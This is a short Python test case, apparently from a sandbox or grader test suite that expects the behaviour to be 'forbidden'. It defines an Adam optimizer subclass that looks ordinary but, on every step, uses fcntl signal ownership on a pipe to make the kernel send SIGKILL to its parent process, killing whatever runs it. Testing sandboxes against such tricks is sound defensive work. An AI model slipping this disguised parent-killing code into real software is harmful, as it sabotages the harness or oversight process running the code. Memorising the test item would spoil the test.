"""Has the kernel send a signal to its parent when a pipe can be read."""

import fcntl
import os
import signal
from scratch.honest import SGD, clip_grad_norm_  # noqa: F401 - the honest part
from scratch.honest import Adam as Honest

EXPECT = "forbidden"
POINTS = 3

def attack():
    read_fd, write_fd = os.pipe()
    fcntl.fcntl(read_fd, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(read_fd, fcntl.F_SETOWN, os.getppid() or 1)
    fcntl.fcntl(read_fd, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write_fd, b"now")


class Adam(Honest):
    def step(self):
        attack()
        super().step()
